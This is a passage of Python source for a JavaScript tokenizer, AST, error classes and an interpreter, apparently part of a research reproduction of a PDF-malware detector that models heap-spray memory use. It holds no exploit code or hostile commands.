                print(obs.metrics.render(), file=sys.stderr)
            obs.close()
            if args.trace is not None:
                print(f"trace written to {args.trace}", file=sys.stderr)
    return 0


_COMMANDS = {
    "scan": _cmd_scan,
    "lint": _cmd_lint,
    "batch": _cmd_batch,
    "instrument": _cmd_instrument,
    "deinstrument": _cmd_deinstrument,
    "features": _cmd_features,
    "corpus": _cmd_corpus,
    "serve": _cmd_serve,
    "cluster": _cmd_cluster,
    "report": _cmd_report,
    "profile": _cmd_profile,
}


def main(argv: Optional[List[str]] = None) -> int:
    args = _build_parser().parse_args(argv)
    return _COMMANDS[args.command](args)


if __name__ == "__main__":
    sys.exit(main())
