"""JavaScript tokenizer.

Covers the ES3 subset the corpus and the instrumentation emit: numeric
literals (decimal, hex, exponent), single/double-quoted strings with
the full escape set (``\\xNN``, ``\\uNNNN``, octal), identifiers and
keywords, the operator set including shifts and strict equality, and
both comment styles.  Regular-expression literals are not supported
(none of the workloads use them).
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum, auto
from typing import List, Optional

from repro.js.errors import JSSyntaxError

KEYWORDS = frozenset(
    """
    break case catch continue default delete do else false finally for
    function if in instanceof new null return switch this throw true try
    typeof var void while with undefined
    """.split()
)

#: Multi-character operators, longest first so max-munch scanning works.
OPERATORS = sorted(
    [
        ">>>=", "===", "!==", ">>>", "<<=", ">>=", "==", "!=", "<=", ">=",
        "&&", "||", "++", "--", "+=", "-=", "*=", "/=", "%=", "&=", "|=",
        "^=", "<<", ">>", "+", "-", "*", "/", "%", "=", "<", ">", "!", "~",
        "&", "|", "^", "?", ":", ";", ",", ".", "(", ")", "[", "]", "{", "}",
    ],
    key=len,
    reverse=True,
)


class TokenType(Enum):
    NUMBER = auto()
    STRING = auto()
    IDENTIFIER = auto()
    KEYWORD = auto()
    OPERATOR = auto()
    EOF = auto()


@dataclass
class Token:
    type: TokenType
    value: object
    line: int
    column: int

    def is_op(self, *ops: str) -> bool:
        return self.type is TokenType.OPERATOR and self.value in ops

    def is_keyword(self, *words: str) -> bool:
        return self.type is TokenType.KEYWORD and self.value in words


def tokenize(source: str) -> List[Token]:
    """Tokenize ``source`` fully (the parser wants random access)."""
    tokens: List[Token] = []
    pos = 0
    line = 1
    line_start = 0
    n = len(source)

    def column() -> int:
        return pos - line_start + 1

    def error(message: str) -> JSSyntaxError:
        return JSSyntaxError(message, line, column())

    while pos < n:
        ch = source[pos]
        if ch == "\n":
            line += 1
            pos += 1
            line_start = pos
            continue
        if ch in " \t\r\f\v ":
            pos += 1
            continue
        if source.startswith("//", pos):
            while pos < n and source[pos] != "\n":
                pos += 1
            continue
        if source.startswith("/*", pos):
            end = source.find("*/", pos + 2)
            if end < 0:
                raise error("unterminated block comment")
            for i in range(pos, end):
                if source[i] == "\n":
                    line += 1
                    line_start = i + 1
            pos = end + 2
            continue
        if ch.isdigit() or (ch == "." and pos + 1 < n and source[pos + 1].isdigit()):
            start = pos
            start_col = column()
            if source.startswith(("0x", "0X"), pos):
                pos += 2
                while pos < n and source[pos] in "0123456789abcdefABCDEF":
                    pos += 1
                text = source[start:pos]
                if len(text) == 2:
                    raise error("bad hex literal")
                tokens.append(Token(TokenType.NUMBER, float(int(text, 16)), line, start_col))
                continue
            while pos < n and source[pos].isdigit():
                pos += 1
            if pos < n and source[pos] == ".":
                pos += 1
                while pos < n and source[pos].isdigit():
                    pos += 1
            if pos < n and source[pos] in "eE":
                pos += 1
                if pos < n and source[pos] in "+-":
                    pos += 1
                if pos >= n or not source[pos].isdigit():
                    raise error("bad exponent")
                while pos < n and source[pos].isdigit():
                    pos += 1
            tokens.append(
                Token(TokenType.NUMBER, float(source[start:pos]), line, start_col)
            )
            continue
        if ch in "'\"":
            start_col = column()
            quote = ch
            pos += 1
            out: List[str] = []
            while True:
                if pos >= n:
                    raise error("unterminated string literal")
                current = source[pos]
                if current == quote:
                    pos += 1
                    break
                if current == "\n":
                    raise error("newline in string literal")
                if current == "\\":
                    pos += 1
                    if pos >= n:
                        raise error("bad escape at end of input")
                    esc = source[pos]
                    pos += 1
                    if esc == "n":
                        out.append("\n")
                    elif esc == "t":
                        out.append("\t")
                    elif esc == "r":
                        out.append("\r")
                    elif esc == "b":
                        out.append("\b")
                    elif esc == "f":
                        out.append("\f")
                    elif esc == "v":
                        out.append("\v")
                    elif esc == "0" and (pos >= n or not source[pos].isdigit()):
                        out.append("\0")
                    elif esc == "x":
                        digits = source[pos : pos + 2]
                        if len(digits) != 2:
                            raise error("bad \\x escape")
                        try:
                            out.append(chr(int(digits, 16)))
                        except ValueError:
                            raise error("bad \\x escape") from None
                        pos += 2
                    elif esc == "u":
                        digits = source[pos : pos + 4]
                        if len(digits) != 4:
                            raise error("bad \\u escape")
                        try:
                            out.append(chr(int(digits, 16)))
                        except ValueError:
                            raise error("bad \\u escape") from None
                        pos += 4
                    elif esc == "\n":
                        line += 1
                        line_start = pos
                    else:
                        out.append(esc)
                    continue
                out.append(current)
                pos += 1
            tokens.append(Token(TokenType.STRING, "".join(out), line, start_col))
            continue
        if ch.isalpha() or ch in "_$":
            start = pos
            start_col = column()
            while pos < n and (source[pos].isalnum() or source[pos] in "_$"):
                pos += 1
            word = source[start:pos]
            kind = TokenType.KEYWORD if word in KEYWORDS else TokenType.IDENTIFIER
            tokens.append(Token(kind, word, line, start_col))
            continue
        matched: Optional[str] = None
        for op in OPERATORS:
            if source.startswith(op, pos):
                matched = op
                break
        if matched is None:
            raise error(f"unexpected character {ch!r}")
        tokens.append(Token(TokenType.OPERATOR, matched, line, column()))
        pos += len(matched)

    tokens.append(Token(TokenType.EOF, None, line, column()))
    return tokens
