"""AST node definitions for the JavaScript engine.

Plain dataclasses; the interpreter dispatches on the concrete type.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple


class Node:
    """Base class for all AST nodes."""

    __slots__ = ()


# --------------------------------------------------------------------------
# Expressions


@dataclass
class NumberLiteral(Node):
    value: float


@dataclass
class StringLiteral(Node):
    value: str


@dataclass
class BooleanLiteral(Node):
    value: bool


@dataclass
class NullLiteral(Node):
    pass


@dataclass
class UndefinedLiteral(Node):
    pass


@dataclass
class ThisExpression(Node):
    pass


@dataclass
class Identifier(Node):
    name: str


@dataclass
class ArrayLiteral(Node):
    elements: List[Node]


@dataclass
class ObjectLiteral(Node):
    entries: List[Tuple[str, Node]]


@dataclass
class FunctionExpression(Node):
    name: Optional[str]
    params: List[str]
    body: "Block"


@dataclass
class UnaryExpression(Node):
    op: str
    operand: Node


@dataclass
class UpdateExpression(Node):
    op: str  # "++" or "--"
    operand: Node
    prefix: bool


@dataclass
class BinaryExpression(Node):
    op: str
    left: Node
    right: Node


@dataclass
class LogicalExpression(Node):
    op: str  # "&&" or "||"
    left: Node
    right: Node


@dataclass
class ConditionalExpression(Node):
    test: Node
    consequent: Node
    alternate: Node


@dataclass
class AssignmentExpression(Node):
    op: str  # "=", "+=", ...
    target: Node
    value: Node


@dataclass
class SequenceExpression(Node):
    expressions: List[Node]


@dataclass
class CallExpression(Node):
    callee: Node
    arguments: List[Node]


@dataclass
class NewExpression(Node):
    callee: Node
    arguments: List[Node]


@dataclass
class MemberExpression(Node):
    obj: Node
    prop: Node  # Identifier (dot) or arbitrary expression (bracket)
    computed: bool


# --------------------------------------------------------------------------
# Statements


@dataclass
class Block(Node):
    statements: List[Node]


@dataclass
class VarDeclaration(Node):
    declarations: List[Tuple[str, Optional[Node]]]


@dataclass
class ExpressionStatement(Node):
    expression: Node


@dataclass
class IfStatement(Node):
    test: Node
    consequent: Node
    alternate: Optional[Node]


@dataclass
class WhileStatement(Node):
    test: Node
    body: Node


@dataclass
class DoWhileStatement(Node):
    body: Node
    test: Node


@dataclass
class ForStatement(Node):
    init: Optional[Node]
    test: Optional[Node]
    update: Optional[Node]
    body: Node


@dataclass
class ForInStatement(Node):
    target: Node  # Identifier or VarDeclaration with one name
    obj: Node
    body: Node


@dataclass
class ReturnStatement(Node):
    value: Optional[Node]


@dataclass
class BreakStatement(Node):
    label: Optional[str] = None


@dataclass
class ContinueStatement(Node):
    label: Optional[str] = None


@dataclass
class ThrowStatement(Node):
    value: Node


@dataclass
class TryStatement(Node):
    block: Block
    catch_param: Optional[str]
    catch_block: Optional[Block]
    finally_block: Optional[Block]


@dataclass
class SwitchCase(Node):
    test: Optional[Node]  # None for "default"
    body: List[Node]


@dataclass
class SwitchStatement(Node):
    discriminant: Node
    cases: List[SwitchCase]


@dataclass
class FunctionDeclaration(Node):
    name: str
    params: List[str]
    body: Block


@dataclass
class EmptyStatement(Node):
    pass


@dataclass
class Program(Node):
    body: List[Node] = field(default_factory=list)
