"""Exception hierarchy for the JavaScript engine."""

from __future__ import annotations

from typing import Any, Optional

from repro.limits import ResourceLimitExceeded as _BaseResourceLimitExceeded


class JSError(Exception):
    """Base class for everything the JS engine raises."""


class JSSyntaxError(JSError):
    """Raised by the lexer/parser on malformed source."""

    def __init__(self, message: str, line: int = 0, column: int = 0) -> None:
        super().__init__(f"{message} (line {line}, col {column})")
        self.line = line
        self.column = column


class JSRuntimeError(JSError):
    """Raised when evaluation fails (TypeError, ReferenceError, ...)."""

    def __init__(self, message: str, kind: str = "Error") -> None:
        super().__init__(f"{kind}: {message}")
        self.kind = kind


class JSThrow(JSError):
    """A ``throw`` statement in flight; carries the thrown JS value."""

    def __init__(self, value: Any) -> None:
        super().__init__(f"uncaught JS exception: {value!r}")
        self.value = value


class ResourceLimitExceeded(JSError, _BaseResourceLimitExceeded):
    """Step or memory budget blown — the engine's infinite-loop guard.

    Doubly rooted on purpose: ``except JSError`` keeps treating a
    runaway script as a script failure (the reader records it and moves
    on), while ``except repro.limits.ResourceLimitExceeded`` — the
    pipeline's budget handler — sees it alongside every other blown
    budget.
    """


class ReaderCrash(JSError):
    """The simulated PDF reader process crashed (e.g. failed hijack).

    The paper's evaluation saw exactly this: sprayed heaps whose
    control-flow hijack missed, crashing the reader — 25 of the false
    negatives (§V-C2).
    """

    def __init__(self, reason: str, document: Optional[str] = None) -> None:
        super().__init__(f"reader crash: {reason}")
        self.reason = reason
        self.document = document


class BreakSignal(Exception):
    """Internal: a ``break`` statement unwinding to its loop."""

    def __init__(self, label: Optional[str] = None) -> None:
        super().__init__("break")
        self.label = label


class ContinueSignal(Exception):
    """Internal: a ``continue`` statement unwinding to its loop."""

    def __init__(self, label: Optional[str] = None) -> None:
        super().__init__("continue")
        self.label = label


class ReturnSignal(Exception):
    """Internal: a ``return`` statement unwinding to its function."""

    def __init__(self, value: Any) -> None:
        super().__init__("return")
        self.value = value
