"""Tree-walking evaluator for the JavaScript subset.

Design notes relevant to the reproduction:

* **Allocation accounting.** Every string the program materialises is
  charged to a host callback at two bytes per character (UTF-16, the
  unit real heap-spray arithmetic uses).  The simulated reader wires
  this into the process memory counters, which is how the paper's
  "suspicious memory consumption" feature (F8) observes heap sprays.
* **Spray pool.** Large strings are additionally handed to the host so
  the reader's control-flow-hijack model can scan the "heap" for a NOP
  sled + payload, exactly mirroring the paper's infection model.
* **Step budget.** A step counter bounds runaway scripts (the engine is
  used inside tests and benchmarks; an attacker-controlled infinite
  loop must not hang the harness).
* **`eval`.** Executes in the caller's scope — the instrumentation's
  prologue depends on real `eval` semantics.
"""

from __future__ import annotations

import math
from typing import Any, Callable, Dict, List, Optional

from repro.js import nodes as ast
from repro.js.errors import (
    BreakSignal,
    ContinueSignal,
    JSRuntimeError,
    JSThrow,
    ResourceLimitExceeded,
    ReturnSignal,
)
from repro.js.parser import parse
from repro.js.values import (
    JSArray,
    JSFunction,
    JSObject,
    NativeFunction,
    UNDEFINED,
    is_callable,
    loose_equals,
    strict_equals,
    to_int32,
    to_number,
    to_string,
    to_uint32,
    truthy,
    type_of,
)

#: Strings at or above this length are reported to the host spray pool.
SPRAY_POOL_THRESHOLD = 4096

#: Bytes per JS string character (UTF-16), used for heap accounting.
BYTES_PER_CHAR = 2


class Environment:
    """A lexical scope: bindings plus a parent pointer."""

    __slots__ = ("bindings", "parent")

    def __init__(self, parent: Optional["Environment"] = None) -> None:
        self.bindings: Dict[str, Any] = {}
        self.parent = parent

    def lookup(self, name: str) -> Any:
        env: Optional[Environment] = self
        while env is not None:
            if name in env.bindings:
                return env.bindings[name]
            env = env.parent
        raise JSRuntimeError(f"{name} is not defined", kind="ReferenceError")

    def has(self, name: str) -> bool:
        env: Optional[Environment] = self
        while env is not None:
            if name in env.bindings:
                return True
            env = env.parent
        return False

    def assign(self, name: str, value: Any) -> None:
        env: Optional[Environment] = self
        while env is not None:
            if name in env.bindings:
                env.bindings[name] = value
                return
            env = env.parent
        # Implicit global, as in sloppy-mode JS.
        root = self
        while root.parent is not None:
            root = root.parent
        root.bindings[name] = value

    def declare(self, name: str, value: Any = UNDEFINED) -> None:
        if name not in self.bindings or value is not UNDEFINED:
            self.bindings[name] = value


class Host:
    """Callbacks from the engine to its embedder (the simulated reader).

    The default implementation accumulates counters locally so the
    engine works standalone.
    """

    def __init__(self) -> None:
        self.allocated_bytes = 0
        self.spray_pool: List[str] = []

    def on_string_alloc(self, length: int) -> None:
        self.allocated_bytes += length * BYTES_PER_CHAR

    def on_large_string(self, value: str) -> None:
        self.spray_pool.append(value)

    def on_step(self, count: int) -> None:  # pragma: no cover - default no-op
        del count

    def now_seconds(self) -> float:
        """Wall-clock seconds for Date(); embedders wire virtual time."""
        return 0.0


class Interpreter:
    """Evaluates parsed programs against a global environment."""

    def __init__(
        self,
        host: Optional[Host] = None,
        max_steps: int = 20_000_000,
        install_builtins: bool = True,
    ) -> None:
        self.host = host if host is not None else Host()
        self.max_steps = max_steps
        self.steps = 0
        self.global_env = Environment()
        self.global_this = JSObject(class_name="global")
        #: Optional :class:`repro.obs.profile.JSProfile` hotspot hook.
        #: The eval loop checks this one attribute per dispatch — the
        #: disabled (None) path performs no extra allocation or call.
        self._profile: Any = None
        if install_builtins:
            from repro.js.builtins import install_globals

            install_globals(self)

    # -- public API ------------------------------------------------------

    def set_profile(self, profile: Any) -> None:
        """Attach (or with None, detach) a JSProfile hotspot recorder."""
        self._profile = profile

    def run(self, source: str, this: Any = None, env: Optional[Environment] = None) -> Any:
        """Parse and execute ``source``; returns the last statement value."""
        program = parse(source)
        scope = env if env is not None else self.global_env
        this_value = this if this is not None else self.global_this
        self._hoist(program.body, scope)
        result: Any = UNDEFINED
        for statement in program.body:
            result = self.exec_statement(statement, scope, this_value)
        return result

    def call_function(self, fn: Any, this: Any, args: List[Any]) -> Any:
        """Invoke a JS or native function from host code."""
        return self._call(fn, this, args)

    def define_global(self, name: str, value: Any) -> None:
        self.global_env.declare(name, value)

    def native(self, name: str, fn: Callable[["Interpreter", Any, List[Any]], Any]) -> NativeFunction:
        return NativeFunction(name, fn)

    # -- bookkeeping ------------------------------------------------------

    def _tick(self) -> None:
        self.steps += 1
        if self.steps > self.max_steps:
            raise ResourceLimitExceeded(
                "js-steps", self.max_steps, "script exceeded its step budget"
            )

    def _record_string(self, value: str) -> str:
        if len(value) >= 2:
            self.host.on_string_alloc(len(value))
        if len(value) >= SPRAY_POOL_THRESHOLD:
            self.host.on_large_string(value)
        return value

    # -- hoisting -----------------------------------------------------------

    def _hoist(self, statements: List[ast.Node], env: Environment) -> None:
        """Hoist ``var`` names and function declarations into ``env``."""
        for statement in statements:
            self._hoist_one(statement, env)

    def _hoist_one(self, node: ast.Node, env: Environment) -> None:
        if isinstance(node, ast.VarDeclaration):
            for name, _init in node.declarations:
                env.declare(name)
        elif isinstance(node, ast.FunctionDeclaration):
            env.declare(node.name, JSFunction(node.name, node.params, node.body, env))
        elif isinstance(node, ast.Block):
            self._hoist(node.statements, env)
        elif isinstance(node, ast.IfStatement):
            self._hoist_one(node.consequent, env)
            if node.alternate is not None:
                self._hoist_one(node.alternate, env)
        elif isinstance(node, (ast.WhileStatement, ast.DoWhileStatement)):
            self._hoist_one(node.body, env)
        elif isinstance(node, ast.ForStatement):
            if node.init is not None:
                self._hoist_one(node.init, env)
            self._hoist_one(node.body, env)
        elif isinstance(node, ast.ForInStatement):
            if isinstance(node.target, ast.VarDeclaration):
                self._hoist_one(node.target, env)
            self._hoist_one(node.body, env)
        elif isinstance(node, ast.TryStatement):
            self._hoist(node.block.statements, env)
            if node.catch_block is not None:
                self._hoist(node.catch_block.statements, env)
            if node.finally_block is not None:
                self._hoist(node.finally_block.statements, env)
        elif isinstance(node, ast.SwitchStatement):
            for case in node.cases:
                self._hoist(case.body, env)

    # -- statements ------------------------------------------------------------

    def exec_statement(self, node: ast.Node, env: Environment, this: Any) -> Any:
        self._tick()
        kind = type(node).__name__
        method = getattr(self, f"_exec_{kind}", None)
        if method is None:
            raise JSRuntimeError(f"cannot execute {kind}")
        profile = self._profile
        if profile is None:
            return method(node, env, this)
        # Inlined JSProfile.dispatch — the eval loop is hot enough that
        # the extra call frame alone is measurable overhead.
        frames = profile.node_frames
        frames.append(0.0)
        clock = profile.clock
        start = clock()
        try:
            return method(node, env, this)
        finally:
            elapsed = clock() - start
            child = frames.pop()
            frames[-1] += elapsed
            self_time = elapsed - child
            stat = profile.node_stats.get(kind)
            if stat is None:
                stat = profile.node_stats[kind] = [0.0, 0]
            if self_time > 0.0:
                stat[0] += self_time
            stat[1] += 1

    def _exec_Program(self, node: ast.Program, env: Environment, this: Any) -> Any:
        result: Any = UNDEFINED
        for statement in node.body:
            result = self.exec_statement(statement, env, this)
        return result

    def _exec_Block(self, node: ast.Block, env: Environment, this: Any) -> Any:
        result: Any = UNDEFINED
        for statement in node.statements:
            result = self.exec_statement(statement, env, this)
        return result

    def _exec_EmptyStatement(self, node: ast.EmptyStatement, env: Environment, this: Any) -> Any:
        return UNDEFINED

    def _exec_VarDeclaration(self, node: ast.VarDeclaration, env: Environment, this: Any) -> Any:
        for name, init in node.declarations:
            value = self.eval_expression(init, env, this) if init is not None else UNDEFINED
            env.declare(name, value)
        return UNDEFINED

    def _exec_ExpressionStatement(
        self, node: ast.ExpressionStatement, env: Environment, this: Any
    ) -> Any:
        return self.eval_expression(node.expression, env, this)

    def _exec_FunctionDeclaration(
        self, node: ast.FunctionDeclaration, env: Environment, this: Any
    ) -> Any:
        env.declare(node.name, JSFunction(node.name, node.params, node.body, env))
        return UNDEFINED

    def _exec_IfStatement(self, node: ast.IfStatement, env: Environment, this: Any) -> Any:
        if truthy(self.eval_expression(node.test, env, this)):
            return self.exec_statement(node.consequent, env, this)
        if node.alternate is not None:
            return self.exec_statement(node.alternate, env, this)
        return UNDEFINED

    def _exec_WhileStatement(self, node: ast.WhileStatement, env: Environment, this: Any) -> Any:
        while truthy(self.eval_expression(node.test, env, this)):
            try:
                self.exec_statement(node.body, env, this)
            except BreakSignal:
                break
            except ContinueSignal:
                continue
        return UNDEFINED

    def _exec_DoWhileStatement(
        self, node: ast.DoWhileStatement, env: Environment, this: Any
    ) -> Any:
        while True:
            try:
                self.exec_statement(node.body, env, this)
            except BreakSignal:
                break
            except ContinueSignal:
                pass
            if not truthy(self.eval_expression(node.test, env, this)):
                break
        return UNDEFINED

    def _exec_ForStatement(self, node: ast.ForStatement, env: Environment, this: Any) -> Any:
        if node.init is not None:
            self.exec_statement(node.init, env, this)
        while node.test is None or truthy(self.eval_expression(node.test, env, this)):
            try:
                self.exec_statement(node.body, env, this)
            except BreakSignal:
                break
            except ContinueSignal:
                pass
            if node.update is not None:
                self.eval_expression(node.update, env, this)
        return UNDEFINED

    def _exec_ForInStatement(self, node: ast.ForInStatement, env: Environment, this: Any) -> Any:
        obj = self.eval_expression(node.obj, env, this)
        # Charging rule: binding the key to the loop target costs one
        # step per iteration (a loop over N keys must not be free).
        if isinstance(node.target, ast.VarDeclaration):
            name = node.target.declarations[0][0]
            env.declare(name)

            def assign(v: Any) -> None:
                self._tick()
                env.assign(name, v)
        elif isinstance(node.target, ast.Identifier):
            target_name = node.target.name

            def assign(v: Any) -> None:
                self._tick()
                env.assign(target_name, v)
        else:
            member = node.target

            def assign(v: Any) -> None:
                self._tick()
                self._assign_member(member, v, env, this)  # type: ignore[arg-type]
        if isinstance(obj, JSObject):
            for key in obj.keys():
                assign(key)
                try:
                    self.exec_statement(node.body, env, this)
                except BreakSignal:
                    break
                except ContinueSignal:
                    continue
        elif isinstance(obj, str):
            for index in range(len(obj)):
                assign(str(index))
                try:
                    self.exec_statement(node.body, env, this)
                except BreakSignal:
                    break
                except ContinueSignal:
                    continue
        return UNDEFINED

    def _exec_ReturnStatement(self, node: ast.ReturnStatement, env: Environment, this: Any) -> Any:
        value = self.eval_expression(node.value, env, this) if node.value is not None else UNDEFINED
        raise ReturnSignal(value)

    def _exec_BreakStatement(self, node: ast.BreakStatement, env: Environment, this: Any) -> Any:
        raise BreakSignal(node.label)

    def _exec_ContinueStatement(
        self, node: ast.ContinueStatement, env: Environment, this: Any
    ) -> Any:
        raise ContinueSignal(node.label)

    def _exec_ThrowStatement(self, node: ast.ThrowStatement, env: Environment, this: Any) -> Any:
        raise JSThrow(self.eval_expression(node.value, env, this))

    def _exec_TryStatement(self, node: ast.TryStatement, env: Environment, this: Any) -> Any:
        from repro.js.errors import ReaderCrash

        result: Any = UNDEFINED
        fatal = False
        try:
            result = self._exec_Block(node.block, env, this)
        except (ReaderCrash, ResourceLimitExceeded):
            # The process is gone (crash) or the engine aborted: JS-level
            # catch/finally never runs — crucially, an instrumented
            # script's epilogue must NOT fire after a crashed hijack.
            fatal = True
            raise
        except JSThrow as thrown:
            if node.catch_block is None:
                raise
            catch_env = Environment(env)
            catch_env.declare(node.catch_param or "e", thrown.value)
            result = self._exec_Block(node.catch_block, catch_env, this)
        except JSRuntimeError as error:
            if node.catch_block is None:
                raise
            catch_env = Environment(env)
            error_obj = JSObject({"message": str(error), "name": error.kind})
            catch_env.declare(node.catch_param or "e", error_obj)
            result = self._exec_Block(node.catch_block, catch_env, this)
        finally:
            if node.finally_block is not None and not fatal:
                self._exec_Block(node.finally_block, env, this)
        return result

    def _exec_SwitchStatement(
        self, node: ast.SwitchStatement, env: Environment, this: Any
    ) -> Any:
        value = self.eval_expression(node.discriminant, env, this)
        matched = False
        try:
            for case in node.cases:
                if not matched and case.test is not None:
                    if strict_equals(value, self.eval_expression(case.test, env, this)):
                        matched = True
                if matched:
                    for statement in case.body:
                        self.exec_statement(statement, env, this)
            if not matched:
                defaulting = False
                for case in node.cases:
                    if case.test is None:
                        defaulting = True
                    if defaulting:
                        for statement in case.body:
                            self.exec_statement(statement, env, this)
        except BreakSignal:
            pass
        return UNDEFINED

    # -- expressions -------------------------------------------------------------

    def eval_expression(self, node: ast.Node, env: Environment, this: Any) -> Any:
        self._tick()
        kind = type(node).__name__
        method = getattr(self, f"_eval_{kind}", None)
        if method is None:
            raise JSRuntimeError(f"cannot evaluate {kind}")
        profile = self._profile
        if profile is None:
            return method(node, env, this)
        # Inlined JSProfile.dispatch (see exec_statement).
        frames = profile.node_frames
        frames.append(0.0)
        clock = profile.clock
        start = clock()
        try:
            return method(node, env, this)
        finally:
            elapsed = clock() - start
            child = frames.pop()
            frames[-1] += elapsed
            self_time = elapsed - child
            stat = profile.node_stats.get(kind)
            if stat is None:
                stat = profile.node_stats[kind] = [0.0, 0]
            if self_time > 0.0:
                stat[0] += self_time
            stat[1] += 1

    def _eval_NumberLiteral(self, node: ast.NumberLiteral, env: Environment, this: Any) -> Any:
        return node.value

    def _eval_StringLiteral(self, node: ast.StringLiteral, env: Environment, this: Any) -> Any:
        return self._record_string(node.value)

    def _eval_BooleanLiteral(self, node: ast.BooleanLiteral, env: Environment, this: Any) -> Any:
        return node.value

    def _eval_NullLiteral(self, node: ast.NullLiteral, env: Environment, this: Any) -> Any:
        return None

    def _eval_UndefinedLiteral(
        self, node: ast.UndefinedLiteral, env: Environment, this: Any
    ) -> Any:
        return UNDEFINED

    def _eval_ThisExpression(self, node: ast.ThisExpression, env: Environment, this: Any) -> Any:
        return this

    def _eval_Identifier(self, node: ast.Identifier, env: Environment, this: Any) -> Any:
        return env.lookup(node.name)

    def _eval_ArrayLiteral(self, node: ast.ArrayLiteral, env: Environment, this: Any) -> Any:
        return JSArray([self.eval_expression(el, env, this) for el in node.elements])

    def _eval_ObjectLiteral(self, node: ast.ObjectLiteral, env: Environment, this: Any) -> Any:
        obj = JSObject()
        for key, value_node in node.entries:
            obj.set(key, self.eval_expression(value_node, env, this))
        return obj

    def _eval_FunctionExpression(
        self, node: ast.FunctionExpression, env: Environment, this: Any
    ) -> Any:
        return JSFunction(node.name, node.params, node.body, env)

    def _eval_SequenceExpression(
        self, node: ast.SequenceExpression, env: Environment, this: Any
    ) -> Any:
        result: Any = UNDEFINED
        for expression in node.expressions:
            result = self.eval_expression(expression, env, this)
        return result

    def _eval_ConditionalExpression(
        self, node: ast.ConditionalExpression, env: Environment, this: Any
    ) -> Any:
        if truthy(self.eval_expression(node.test, env, this)):
            return self.eval_expression(node.consequent, env, this)
        return self.eval_expression(node.alternate, env, this)

    def _eval_LogicalExpression(
        self, node: ast.LogicalExpression, env: Environment, this: Any
    ) -> Any:
        left = self.eval_expression(node.left, env, this)
        if node.op == "&&":
            return self.eval_expression(node.right, env, this) if truthy(left) else left
        return left if truthy(left) else self.eval_expression(node.right, env, this)

    def _eval_UnaryExpression(self, node: ast.UnaryExpression, env: Environment, this: Any) -> Any:
        if node.op == "typeof":
            if isinstance(node.operand, ast.Identifier) and not env.has(node.operand.name):
                # Charging rule: the operand node costs one step whether
                # or not the name resolves (an undeclared identifier must
                # not be cheaper than a declared one).
                self._tick()
                return "undefined"
            return type_of(self.eval_expression(node.operand, env, this))
        if node.op == "delete":
            if isinstance(node.operand, ast.MemberExpression):
                # Charging rule: the member node itself costs one step,
                # same as when it is evaluated as an expression.
                self._tick()
                obj = self.eval_expression(node.operand.obj, env, this)
                name = self._member_name(node.operand, env, this)
                if isinstance(obj, JSObject):
                    return obj.delete(name)
            return True
        value = self.eval_expression(node.operand, env, this)
        if node.op == "!":
            return not truthy(value)
        if node.op == "-":
            return -to_number(value)
        if node.op == "+":
            return to_number(value)
        if node.op == "~":
            return float(~to_int32(value))
        if node.op == "void":
            return UNDEFINED
        raise JSRuntimeError(f"unknown unary operator {node.op}")

    def _eval_UpdateExpression(
        self, node: ast.UpdateExpression, env: Environment, this: Any
    ) -> Any:
        old = to_number(self.eval_expression(node.operand, env, this))
        new = old + 1 if node.op == "++" else old - 1
        self._assign_target(node.operand, new, env, this)
        return new if node.prefix else old

    def _eval_BinaryExpression(
        self, node: ast.BinaryExpression, env: Environment, this: Any
    ) -> Any:
        left = self.eval_expression(node.left, env, this)
        right = self.eval_expression(node.right, env, this)
        return self._binary_op(node.op, left, right)

    def _binary_op(self, op: str, left: Any, right: Any) -> Any:
        if op == "+":
            if isinstance(left, str) or isinstance(right, str) or isinstance(left, JSArray) or isinstance(right, JSArray):
                result = to_string(left) + to_string(right)
                return self._record_string(result)
            return to_number(left) + to_number(right)
        if op == "-":
            return to_number(left) - to_number(right)
        if op == "*":
            return to_number(left) * to_number(right)
        if op == "/":
            denominator = to_number(right)
            numerator = to_number(left)
            if denominator == 0:
                if math.isnan(numerator) or numerator == 0:
                    return math.nan
                return math.inf if (numerator > 0) == (math.copysign(1, denominator) > 0) else -math.inf
            return numerator / denominator
        if op == "%":
            denominator = to_number(right)
            numerator = to_number(left)
            if denominator == 0 or math.isnan(denominator) or math.isnan(numerator) or math.isinf(numerator):
                return math.nan
            return math.fmod(numerator, denominator)
        if op == "==":
            return loose_equals(left, right)
        if op == "!=":
            return not loose_equals(left, right)
        if op == "===":
            return strict_equals(left, right)
        if op == "!==":
            return not strict_equals(left, right)
        if op in ("<", ">", "<=", ">="):
            if isinstance(left, str) and isinstance(right, str):
                if op == "<":
                    return left < right
                if op == ">":
                    return left > right
                if op == "<=":
                    return left <= right
                return left >= right
            number_left, number_right = to_number(left), to_number(right)
            if math.isnan(number_left) or math.isnan(number_right):
                return False
            if op == "<":
                return number_left < number_right
            if op == ">":
                return number_left > number_right
            if op == "<=":
                return number_left <= number_right
            return number_left >= number_right
        if op == "&":
            return float(to_int32(left) & to_int32(right))
        if op == "|":
            return float(to_int32(left) | to_int32(right))
        if op == "^":
            return float(to_int32(left) ^ to_int32(right))
        if op == "<<":
            return float(to_int32(to_int32(left) << (to_uint32(right) & 31)))
        if op == ">>":
            return float(to_int32(left) >> (to_uint32(right) & 31))
        if op == ">>>":
            return float(to_uint32(left) >> (to_uint32(right) & 31))
        if op == "instanceof":
            if not is_callable(right):
                raise JSRuntimeError("right side of instanceof is not callable", "TypeError")
            proto = right.get("prototype") if isinstance(right, JSObject) else UNDEFINED
            probe = left.prototype if isinstance(left, JSObject) else None
            while probe is not None:
                if probe is proto:
                    return True
                probe = probe.prototype
            return False
        if op == "in":
            if isinstance(right, JSObject):
                return right.has(to_string(left))
            raise JSRuntimeError("'in' needs an object", "TypeError")
        raise JSRuntimeError(f"unknown binary operator {op}")

    def _eval_AssignmentExpression(
        self, node: ast.AssignmentExpression, env: Environment, this: Any
    ) -> Any:
        if node.op == "=":
            value = self.eval_expression(node.value, env, this)
            # Charging rule: every evaluated AST node costs one step —
            # including the write-only target of a plain assignment.
            # (Compound/update targets are charged on their read
            # instead, so they still cost exactly one.)
            self._tick()
        else:
            current = self.eval_expression(node.target, env, this)
            rhs = self.eval_expression(node.value, env, this)
            value = self._binary_op(node.op[:-1], current, rhs)
        self._assign_target(node.target, value, env, this)
        return value

    def _assign_target(self, target: ast.Node, value: Any, env: Environment, this: Any) -> None:
        if isinstance(target, ast.Identifier):
            env.assign(target.name, value)
            return
        if isinstance(target, ast.MemberExpression):
            self._assign_member(target, value, env, this)
            return
        raise JSRuntimeError("invalid assignment target")

    def _assign_member(
